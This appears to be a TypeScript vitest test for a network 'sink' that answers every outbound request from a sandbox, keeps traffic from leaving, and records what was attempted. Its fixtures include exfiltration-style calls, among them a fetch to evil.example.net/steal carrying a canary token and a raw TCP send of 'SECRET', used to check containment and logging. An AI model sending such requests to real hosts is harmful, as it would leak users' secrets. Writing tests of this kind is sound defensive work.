/** The network that leads nowhere: everything is answered, nothing leaves, all of it is on record. */
import { afterEach, describe, expect, test } from "vitest";
import { openSink } from "../../../src/adapters/egress/sink.ts";
import type { Broker } from "../../../src/adapters/projection/parts.ts";
import { missing, Network } from "./fixture/network.ts";
import { told } from "./fixture/scene.ts";

const why = missing();
if (why !== undefined) console.log(`skipped: ${why}`);

let network: Network;
let sink: Broker;
afterEach(async () => {
  sink?.close();
  await network?.close();
});

describe.skipIf(why !== undefined)("a sink", () => {
  test("answers every name and request, and tells what was sent", async () => {
    network = await Network.open(["x.example:5432"]);
    sink = openSink({ listeners: network.listeners, now: () => performance.now() });
    sink.grant("call", []);
    sink.revoke("call");
    const body = "token=sk-canary-17";
    const outcomes = await network.client([
      { kind: "fetch", url: `http://evil.example.net/steal?${"k".repeat(20)}`, body },
      { kind: "fetch", url: "http://93.184.215.14/", body: "x".repeat(90_000) },
      { kind: "fetch", url: "https://api.evil.example.net/" },
      { kind: "tcp", host: "x.example", port: 5432, send: ["SECRET\n"] },
      { kind: "lookup", name: "localhost.evil.example.net" },
      {
        kind: "tcp",
        host: "198.18.0.1",
        port: 3128,
        send: ["CONNECT a.example:443 HTTP/1.1\r\n\r\n", "GET / HTTP/1.1\r\n\r\n"],
      },
    ]);
    expect(outcomes[0]).toEqual({ how: "200", text: "{}", bytes: 2 });
    expect(outcomes[1]).toMatchObject({ how: "200" });
    expect(outcomes[2]?.how).toMatch(/SSL|ALERT/i);
    expect(outcomes[3]?.how).toBe("end");
    expect(outcomes[4]?.text).toMatch(/^198\.18\./);
    expect(outcomes[5]?.text).toMatch(/200 Connection established[\s\S]*\{\}$/);
    const seen = sink.drain();
    const lines = told(seen);
    expect(lines).toContain("dns-query success evil.example.net - -");
    expect(lines).toContain("net-connect success evil.example.net 80 -");
    expect(lines).toContain(
      `net-send success evil.example.net 80 POST evil.example.net/steal?${"k".repeat(20)} ${body}`,
    );
    expect(lines).toContain("net-send success api.evil.example.net 443 client-hello api.evil.example.net");
    expect(lines).toContain("net-send success x.example 5432 SECRET");
    expect(lines).toContain("net-connect success a.example 443 -");
    expect(seen.every(({ detail = "" }) => detail.length <= 512)).toBe(true);
    expect(sink.failure).toBeUndefined();
  });
});
